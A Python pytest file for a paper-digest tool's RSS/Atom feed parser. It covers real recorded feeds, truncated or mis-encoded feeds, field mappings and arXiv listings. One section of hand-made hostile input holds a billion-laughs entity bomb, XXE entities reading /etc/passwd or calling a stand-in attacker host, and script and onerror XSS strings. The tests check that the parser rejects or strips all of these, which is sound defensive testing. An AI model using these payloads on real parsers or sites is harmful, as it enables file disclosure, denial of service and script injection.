"""The generic RSS/Atom feed source against recorded real third-party feeds
(tests/fixtures/third_party_feeds/) and hand-made hostile input; arXiv listings
given to it as feeds (tests/fixtures/arxiv_rss/)."""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import TypeVar

import httpx
import pytest

from digest.papers.sources import (
    DeferredRecord,
    Item,
    Note,
    PaperRecord,
    SkippedEntry,
    SourceError,
)
from digest.papers.sources.arxiv_rss import parse_arxiv_rss
from digest.papers.sources.feed import FeedMapping, FeedSource
from digest.papers.sources.http import Fetcher
from tests.papers.sources.recorded import FIXTURES, Recorded, fixture_bytes

Serve = Callable[..., Recorded]
T = TypeVar("T")

TAKARA = "third_party_feeds/takara_tldr_papers_rss_2026-04-30_50items.xml"
HUANGBOMING = "third_party_feeds/huangboming_hf-daily-paper-feed_feedgen_rss_2026-04-30_22items.xml"
URL = "https://feeds.example.org/papers.xml"


def serving(body: bytes) -> Callable[[httpx.Request], httpx.Response]:
    def handler(request: httpx.Request) -> httpx.Response:
        if str(request.url) != URL:
            return httpx.Response(404)
        return httpx.Response(200, content=body, headers={"content-type": "application/rss+xml"})

    return handler


def fetch_all(
    serve: Serve, body: bytes, mapping: FeedMapping | None = None, **options: int
) -> list[Item]:
    recorded = serve(serving(body))
    source = FeedSource(
        name="test-feed",
        url=URL,
        fetcher=recorded.fetcher,
        mapping=mapping or FeedMapping(),
        **options,
    )
    return list(source.fetch())


def records(items: list[Item]) -> dict[str, PaperRecord]:
    return {item.canonical_id: item for item in items if isinstance(item, PaperRecord)}


def of_type(items: list[Item], kind: type[T]) -> list[T]:
    return [item for item in items if isinstance(item, kind)]


def fetch_expecting_error(serve: Serve, body: bytes) -> tuple[list[Item], SourceError]:
    """What was yielded before the SourceError, and the error."""
    recorded = serve(serving(body))
    source = FeedSource(name="test-feed", url=URL, fetcher=recorded.fetcher)
    yielded: list[Item] = []
    with pytest.raises(SourceError) as raised:
        for item in source.fetch():
            yielded.append(item)
    return yielded, raised.value


# --- real feeds ---------------------------------------------------------------------------


def test_takara_feed_gives_every_paper_with_its_arxiv_id(serve: Serve) -> None:
    body = fixture_bytes(TAKARA)

    items = fetch_all(serve, body)

    papers = records(items)
    assert len(items) == len(papers) == 50
    links = re.findall(rb"<link>https://tldr\.takara\.ai/p/([\d.]+)</link>", body)
    assert {f"arxiv:{link.decode()}" for link in links} == set(papers)
    coquant = papers["arxiv:2604.26378"]
    assert coquant.title == (
        "CoQuant: Joint Weight-Activation Subspace Projection for Mixed-Precision LLMs"
    )
    assert coquant.abstract is not None
    assert coquant.abstract.startswith("Post-training quantization (PTQ) has become")
    assert coquant.abstract.endswith("available at https://github.com/Zachary5895/CoQuant.")
    assert coquant.links == {
        "link": "https://tldr.takara.ai/p/2604.26378",
        "abs": "https://arxiv.org/abs/2604.26378",
    }
    assert coquant.published_on == date(2026, 4, 29)
    assert coquant.authors == ()
    assert coquant.author_count is None
    assert coquant.version is None
    assert coquant.upvotes is None


def test_huangboming_feed_abstract_is_plain_text_and_labels_become_fields(serve: Serve) -> None:
    items = fetch_all(serve, fixture_bytes(HUANGBOMING))

    papers = records(items)
    assert len(items) == len(papers) == 22
    recursive = papers["arxiv:2604.25917"]
    assert recursive.title == "Recursive Multi-Agent Systems"
    assert recursive.abstract is not None
    assert recursive.abstract.startswith(
        "Recursive or looped language models have recently emerged as a new scaling axis"
    )
    assert recursive.abstract.endswith(
        "Code and Data are provided in https://recursivemas.github.io."
    )
    assert recursive.upvotes == 123
    assert recursive.author_count == len(recursive.authors) == 12
    assert recursive.authors[0] == "Xiyuan Yang"
    assert recursive.authors[-1] == "James Zou"
    assert recursive.published_on == date(2026, 4, 28)
    assert recursive.links == {
        "link": "https://arxiv.org/abs/2604.25917",
        "abs": "https://arxiv.org/abs/2604.25917",
    }
    # Zero upvotes is a count, not "unknown"; a single author is not split.
    assert papers["arxiv:2604.25032"].upvotes == 0
    assert papers["arxiv:2604.25032"].authors == ("Theresia Veronika Rampisela",)
    for paper in papers.values():
        assert paper.abstract
        for leftover in ("<img", "<p>", "<b>", "&lt;", "Paper thumbnail", "Upvotes:", "Authors:"):
            assert leftover not in paper.abstract, (paper.canonical_id, leftover)


def test_file_feed_is_read_again_only_when_it_changes(tmp_path: Path) -> None:
    path = tmp_path / "dropped feed.xml"
    shutil.copyfile(FIXTURES / TAKARA, path)
    fetcher = Fetcher()
    source = FeedSource(name="on-disk", url=path.as_uri(), fetcher=fetcher)
    try:
        first = list(source.fetch())
        unchanged = list(source.fetch())
        stat = path.stat()
        os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
        touched = list(source.fetch())
        shutil.copyfile(FIXTURES / HUANGBOMING, path)
        rewritten = list(source.fetch())
    finally:
        fetcher.close()

    assert len(records(first)) == len(first) == 50
    assert unchanged == [Note("not modified since the last fetch")]
    # Touched but the same bytes: nothing to read again.
    assert touched == [Note("not modified since the last fetch")]
    assert len(records(rewritten)) == len(rewritten) == 22
    assert "arxiv:2604.25917" in records(rewritten)


def test_http_not_modified_gives_a_note(serve: Serve) -> None:
    body = fixture_bytes(TAKARA)

    def handler(request: httpx.Request) -> httpx.Response:
        if request.headers.get("if-none-match") == '"v1"':
            return httpx.Response(304)
        return httpx.Response(200, content=body, headers={"etag": '"v1"'})

    recorded = serve(handler)
    source = FeedSource(name="test-feed", url=URL, fetcher=recorded.fetcher)

    assert len(records(list(source.fetch()))) == 50
    assert list(source.fetch()) == [Note("not modified since the last fetch")]


def test_http_error_is_a_source_error(serve: Serve) -> None:
    recorded = serve(lambda request: httpx.Response(404, text="gone"))
    source = FeedSource(name="test-feed", url=URL, fetcher=recorded.fetcher)

    with pytest.raises(SourceError, match="404"):
        list(source.fetch())


def test_max_entries_reads_the_first_entries_and_says_so(serve: Serve) -> None:
    items = fetch_all(serve, fixture_bytes(TAKARA), max_entries=10)

    assert list(records(items))[:2] == ["arxiv:2604.26238", "arxiv:2604.26378"]
    assert len(records(items)) == 10
    notes = of_type(items, Note)
    assert len(notes) == 1
    assert "50 entries" in notes[0].text
    assert "first 10" in notes[0].text


# --- damaged real feeds ---------------------------------------------------------------------


def third_item_start(body: bytes) -> int:
    first = body.index(b"<item>")
    second = body.index(b"<item>", first + 1)
    return body.index(b"<item>", second + 1)


@pytest.mark.parametrize(
    "cut_after",
    [
        pytest.param(b"<description><![CDATA[The essence of good", id="inside-cdata"),
        pytest.param(b"<title>Calibrated Surpr", id="inside-title"),
        pytest.param(b"<link>https://tldr.takara.ai/p/2604.26269</link>", id="after-link"),
    ],
)
def test_truncated_feed_keeps_the_complete_entries_before_the_cut(
    serve: Serve, cut_after: bytes
) -> None:
    body = fixture_bytes(TAKARA)
    third = third_item_start(body)
    cut = body[: body.index(cut_after, third) + len(cut_after)]

    items = fetch_all(serve, cut)

    assert list(records(items)) == ["arxiv:2604.26238", "arxiv:2604.26378"]
    assert any("not well-formed" in note.text for note in of_type(items, Note))
    skipped = of_type(items, SkippedEntry)
    assert [entry.reason for entry in skipped] == ["entry cut off by a truncated feed"]


def test_mis_encoded_byte_does_not_cost_the_feed(serve: Serve) -> None:
    body = fixture_bytes(TAKARA)
    # A latin-1 "é" (one byte, 0xE9) in a feed that declares UTF-8.
    damaged = body.replace(b"EnerGS: Energy-Based", b"EnerGS: En\xe9rgy-Based", 1)
    assert damaged != body

    items = fetch_all(serve, damaged)

    papers = records(items)
    assert len(papers) == 50
    title = papers["arxiv:2604.26238"].title
    assert title.startswith("EnerGS: En")
    assert title.endswith("rgy-Based Gaussian Splatting with Partial Geometric Priors")
    assert papers["arxiv:2604.26378"].title.startswith("CoQuant: Joint")
    assert any("not well-formed" in note.text for note in of_type(items, Note))


def test_mis_encoded_byte_does_not_garble_the_correct_text_around_it(serve: Serve) -> None:
    body = fixture_bytes(HUANGBOMING)
    assert "protocol \u039b= (W_{H}".encode() in body  # a real, correctly encoded Greek capital
    damaged = body.replace(b"Seeing Isn't Believing", b"Seeing Isn't B\xe9lieving", 1)
    assert damaged != body

    papers = records(fetch_all(serve, damaged))

    assert len(papers) == 22
    assert papers["arxiv:2604.21523"].title.endswith(
        "lieving: Uncovering Blind Spots in Evaluator Vision-Language Models"
    )
    harness = papers["arxiv:2604.21003"].abstract
    assert harness is not None
    assert "protocol \u039b= (W_{H}" in harness


@pytest.mark.parametrize(
    "replacement",
    [pytest.param(b"", id="missing"), pytest.param(b"<title>  </title>", id="blank")],
)
def test_entry_without_a_title_is_skipped_with_a_reason(serve: Serve, replacement: bytes) -> None:
    body = fixture_bytes(TAKARA)
    title = (
        b"<title>CoQuant: Joint Weight-Activation Subspace Projection for Mixed-Precision LLMs"
        b"</title>"
    )
    assert title in body

    items = fetch_all(serve, body.replace(title, replacement, 1))

    assert len(records(items)) == 49
    assert "arxiv:2604.26378" not in records(items)
    assert of_type(items, SkippedEntry) == [
        SkippedEntry("no title", "https://tldr.takara.ai/p/2604.26378")
    ]


def test_title_zero_is_a_title(serve: Serve) -> None:
    body = fixture_bytes(TAKARA).replace(
        b"<title>CoQuant: Joint Weight-Activation Subspace Projection for Mixed-Precision LLMs",
        b"<title>0",
        1,
    )

    papers = records(fetch_all(serve, body))

    assert papers["arxiv:2604.26378"].title == "0"


# --- hand-made hostile input -----------------------------------------------------------------
# The byte strings below are written for these tests, not recorded from any feed.

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>bomb</title>
<item><title>&lol9;</title><link>https://arxiv.org/abs/2401.00001</link></item>
</channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>xxe</title>
<item><title>Leak &xxe;</title><link>https://arxiv.org/abs/2401.00002</link>
<description>&xxe;</description></item>
</channel></rss>"""


def test_a_billion_laughs_bomb_is_refused_before_anything_is_yielded(serve: Serve) -> None:
    yielded, error = fetch_expecting_error(serve, BILLION_LAUGHS)

    assert yielded == []
    assert "entity expansion bomb" in str(error)


def test_a_nested_entity_too_small_for_libxml2_to_stop_is_refused_all_the_same(
    serve: Serve,
) -> None:
    nested = XXE.replace(
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">', b'<!ENTITY a "ha"><!ENTITY xxe "&a;&a;">'
    )
    yielded, error = fetch_expecting_error(serve, nested)

    assert yielded == [] and "entity expansion bomb" in str(error)


def test_external_entities_are_never_read_and_the_entries_beside_them_are_kept(
    serve: Serve, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    asked: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        asked.append(str(request.url))
        return serving(body)(request)

    body = f"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY file SYSTEM "{secret.as_uri()}">
  <!ENTITY remote SYSTEM "https://evil.example.net/steal.dtd">
  <!ENTITY % dtd SYSTEM "https://evil.example.net/more.dtd"> %dtd;
  <!ENTITY nbsp "&#160;">
]>
<rss version="2.0"><channel><title>hostile</title>
<item><title>Good one</title><link>https://arxiv.org/abs/2401.00011</link>
<description>An intact abstract.</description></item>
<item><title>Leak &file;&remote; here</title><link>https://arxiv.org/abs/2401.00012</link>
<description>&file;</description></item>
<item><title>Good&nbsp;two</title><link>https://arxiv.org/abs/2401.00013</link>
<description>Another intact abstract.</description></item>
</channel></rss>""".encode()
    recorded = serve(handler)
    source = FeedSource(name="test-feed", url=URL, fetcher=recorded.fetcher)
    found = records(list(source.fetch()))

    assert found["arxiv:2401.00011"].title == "Good one"
    assert found["arxiv:2401.00011"].abstract == "An intact abstract."
    assert found["arxiv:2401.00013"].abstract == "Another intact abstract."
    # Unexpanded, so gone from the text: neither the file nor the network was read.
    assert found["arxiv:2401.00012"].title == "Leak here"
    assert all("TOP-SECRET" not in repr(record) for record in found.values())
    assert asked == [URL]


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"\x00\x01\x02\xff\xfe garbage \x89PNG\r\n", id="binary"),
        pytest.param(b"this is not a feed", id="text"),
        pytest.param(b"   \n", id="blank"),
        pytest.param(b"<html><body><p>Not a feed</p></body></html>", id="html-page"),
    ],
)
def test_a_body_that_is_not_a_feed_is_a_source_error(serve: Serve, body: bytes) -> None:
    yielded, _ = fetch_expecting_error(serve, body)

    assert yielded == []


def hostile_rss(item: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>hostile</title>'
        + item
        + b"<item><title>Control paper</title><link>https://arxiv.org/abs/2401.00009</link>"
        b"<description>Plain abstract.</description></item></channel></rss>"
    )


SCRIPT_ITEMS = {
    "raw-elements": (
        b"<item><title>Raw <script>alert(1)</script>title</title>"
        b"<link>https://arxiv.org/abs/2401.00010</link>"
        b"<description>Raw <script>alert(2)</script>abstract</description></item>"
    ),
    "cdata": (
        b"<item><title><![CDATA[Cdata <script>alert(1)</script>title]]></title>"
        b"<link>https://arxiv.org/abs/2401.00010</link>"
        b"<description><![CDATA[<p>Cdata</p><script>alert(2)</script>"
        b"<img src=x onerror=alert(3)>abstract]]></description></item>"
    ),
    "escaped-once": (
        b"<item><title>Escaped &lt;script&gt;alert(1)&lt;/script&gt;title</title>"
        b"<link>https://arxiv.org/abs/2401.00010</link>"
        b"<description>Escaped &lt;script&gt;alert(2)&lt;/script&gt;abstract</description></item>"
    ),
    "escaped-twice": (
        b"<item><title>Twice &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;title</title>"
        b"<link>https://arxiv.org/abs/2401.00010</link>"
        b"<description>Twice &amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt;abstract"
        b"</description></item>"
    ),
    "labelled-summary": (
        b"<item><title>Labelled</title><link>https://arxiv.org/abs/2401.00010</link>"
        b"<description>&lt;p&gt;&lt;b&gt;Authors:&lt;/b&gt; A &lt;script&gt;alert(1)&lt;/script&gt;"
        b"&lt;/p&gt;&lt;p&gt;&lt;b&gt;Summary:&lt;/b&gt; Labelled &lt;script&gt;alert(2)"
        b"&lt;/script&gt;abstract&lt;/p&gt;</description></item>"
    ),
}


@pytest.mark.parametrize("item", list(SCRIPT_ITEMS.values()), ids=list(SCRIPT_ITEMS))
def test_scripts_never_reach_stored_text(serve: Serve, item: bytes) -> None:
    items = fetch_all(serve, hostile_rss(item))

    papers = records(items)
    assert set(papers) == {"arxiv:2401.00010", "arxiv:2401.00009"}
    paper = papers["arxiv:2401.00010"]
    stored = [paper.title, paper.abstract or "", *paper.authors]
    for text in stored:
        assert "<script" not in text.lower()
        assert "alert(" not in text
        assert "<" not in text
        assert "onerror" not in text
    assert paper.abstract is not None
    assert paper.abstract.endswith(" abstract")


def test_only_http_links_are_stored(serve: Serve) -> None:
    item = (
        b"<item><title>Sneaky link</title><guid>tag:example.org,2024:1</guid>"
        b"<link>javascript:alert(1)</link><description>x</description></item>"
    )

    papers = records(fetch_all(serve, hostile_rss(item)))

    sneaky = next(paper for paper in papers.values() if paper.title == "Sneaky link")
    assert sneaky.canonical_id.startswith("url:")
    assert sneaky.links == {}


# --- mapping --------------------------------------------------------------------------------
# Hand-made Atom: the real feeds we have all link to arXiv.

ATOM_WITH_DOI = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:prism="http://prismstandard.org/namespaces/basic/2.0/">
  <title>A journal</title><id>urn:journal</id><updated>2024-03-04T00:00:00Z</updated>
  <entry>
    <title type="html">Spin &lt;i&gt;waves&lt;/i&gt; in &lt;b&gt;magnets&lt;/b&gt;</title>
    <id>urn:journal:article:1</id>
    <link href="https://journal.example.org/articles/1234567"/>
    <author><name>Ada One</name></author><author><name>Bo Two</name></author>
    <content type="html">&lt;p&gt;We study &lt;em&gt;spin&lt;/em&gt; waves.&lt;/p&gt;\
&lt;p&gt;In magnets.&lt;/p&gt;</content>
    <prism:doi>10.1234/Journal.ABC-1</prism:doi>
    <category term="cond-mat.str-el"/><category term="physics"/>
    <updated>2024-03-02T10:00:00Z</updated>
  </entry>
  <entry>
    <title>No identifier but a link</title>
    <id>urn:journal:article:2</id>
    <link href="https://journal.example.org/news/1234567"/>
    <updated>2024-03-03T10:00:00Z</updated>
  </entry>
</feed>"""


def test_mapping_reads_doi_authors_categories_and_date_from_atom(serve: Serve) -> None:
    mapping = FeedMapping.from_config({"doi_field": "prism_doi", "abstract_field": "content"})

    items = fetch_all(serve, ATOM_WITH_DOI, mapping)

    papers = records(items)
    assert len(items) == len(papers) == 2
    article = papers["doi:10.1234/journal.abc-1"]
    assert article.title == "Spin waves in magnets"
    assert article.abstract == "We study spin waves. In magnets."
    assert article.authors == ("Ada One", "Bo Two")
    assert article.categories == ("cond-mat.str-el", "physics")
    assert article.published_on == date(2024, 3, 2)  # no <published>: <updated>
    assert article.doi == "10.1234/journal.abc-1"
    assert article.links == {
        "link": "https://journal.example.org/articles/1234567",
        "doi": "https://doi.org/10.1234/journal.abc-1",
    }
    # "news/1234567" has the shape of an old arXiv id but names no arXiv archive.
    news = next(paper for paper in papers.values() if paper.title == "No identifier but a link")
    assert news.canonical_id.startswith("url:")
    assert "abs" not in news.links


def test_mapping_without_arxiv_fields_falls_back_to_the_guid(serve: Serve) -> None:
    mapping = FeedMapping(arxiv_id_fields=())

    papers = records(fetch_all(serve, fixture_bytes(TAKARA), mapping))

    assert len(papers) == 50
    assert all(paper_id.startswith("url:") for paper_id in papers)
    assert all("abs" not in paper.links for paper in papers.values())


def test_mapping_from_config_accepts_known_keys() -> None:
    mapping = FeedMapping.from_config(
        {
            "arxiv_id_fields": ["link"],
            "doi_field": "dc_identifier",
            "abstract_is_html": False,
            "authors_field": "",
            "date_field": "updated",
        }
    )

    assert mapping == FeedMapping(
        arxiv_id_fields=("link",),
        doi_field="dc_identifier",
        abstract_is_html=False,
        authors_field=None,
        date_field="updated",
    )
    assert FeedMapping.from_config({}) == FeedMapping()


def test_mapping_from_config_refuses_unknown_keys() -> None:
    with pytest.raises(ValueError, match="abstract_feild"):
        FeedMapping.from_config({"abstract_feild": "content"})


@pytest.mark.parametrize(
    "config",
    [
        {"abstract_is_html": "yes"},
        {"arxiv_id_fields": [1, 2]},
        {"date_field": ""},
        {"doi_field": 3},
    ],
)
def test_mapping_from_config_refuses_wrong_types(config: dict[str, object]) -> None:
    with pytest.raises(ValueError, match="feed mapping"):
        FeedMapping.from_config(config)


# --- an arXiv listing given as a feed -----------------------------------------------------

ARXIV_COMBINED = "arxiv_rss/arxiv_rss_20-archives-combined_1504items_2024-11-28.xml.gz"
ARXIV_SATURDAY = "arxiv_rss/arxiv_rss_cs.CL_saturday-empty_2026-08-01.xml"
ARXIV_BAD_ARCHIVE = "arxiv_rss/arxiv_rss_error_bad-archive-astroph_2024-11-28.xml"
ARXIV_API = "arxiv_api/arxiv_api_query_cat-cs.AI-OR-cs.LG-OR-cs.CL_25entries_2026-08-02.xml"
LISTING_NOTE = Note(f"{URL} is an arXiv RSS listing; read as one")


def completed(items: list[Item]) -> dict[str, PaperRecord]:
    return {
        item.canonical_id: item.complete() for item in items if isinstance(item, DeferredRecord)
    }


def test_an_arxiv_listing_given_as_a_feed_is_read_as_arxiv_rss(serve: Serve) -> None:
    body = fixture_bytes(ARXIV_COMBINED)
    items = fetch_all(serve, body)

    assert items[0] == LISTING_NOTE
    papers = completed(items)
    assert list(papers.values()) == [
        item for item in parse_arxiv_rss(body, what=URL) if isinstance(item, PaperRecord)
    ]
    assert len(papers) == 1504
    # The "arXiv:… Announce Type: … Abstract:" header is not part of any abstract.
    assert not [p for p in papers.values() if p.abstract and "Announce Type" in p.abstract]
    new = papers["arxiv:2411.17747"]
    assert new.abstract and new.abstract.startswith("In this paper, we propose a low-complexity")
    assert new.published_on == date(2024, 11, 28)
    # A replacement is a new version of an old paper, not a paper published that day.
    replaced = papers["arxiv:1401.3665"]
    assert replaced.abstract and replaced.abstract.startswith("We prove the existence conjecture")
    assert (replaced.version, replaced.published_on) == (4, None)


def test_an_empty_arxiv_listing_given_as_a_feed_is_a_normal_day(serve: Serve) -> None:
    assert fetch_all(serve, fixture_bytes(ARXIV_SATURDAY)) == [
        LISTING_NOTE,
        Note("no announcements in this listing (weekend or holiday)"),
    ]


def test_an_arxiv_error_listing_given_as_a_feed_is_an_error(serve: Serve) -> None:
    yielded, error = fetch_expecting_error(serve, fixture_bytes(ARXIV_BAD_ARCHIVE))
    assert "Bad archive 'astroph'" in str(error)
    assert yielded == [LISTING_NOTE]


def test_an_arxiv_listing_given_as_a_feed_keeps_its_max_entries(serve: Serve) -> None:
    items = fetch_all(serve, fixture_bytes(ARXIV_COMBINED), max_entries=10)
    assert len(completed(items)) == 10
    assert Note(f"{URL} has 1,504 entries; read the first 10") in items


def test_feeds_that_only_share_the_arxiv_namespace_are_read_generically(serve: Serve) -> None:
    # A third-party feed that declares the namespace (for arxiv:doi, say) is no listing.
    borrowing = fixture_bytes(TAKARA).replace(
        b"<rss ", b'<rss xmlns:arxiv="http://arxiv.org/schemas/atom" ', 1
    )
    assert b"arxiv.org/schemas/atom" in borrowing
    takara = fetch_all(serve, borrowing)
    assert len(records(takara)) == len(takara) == 50
    # The arXiv API answers in Atom with the same namespace.
    api = fetch_all(serve, fixture_bytes(ARXIV_API))
    assert len(records(api)) == len(api) == 25
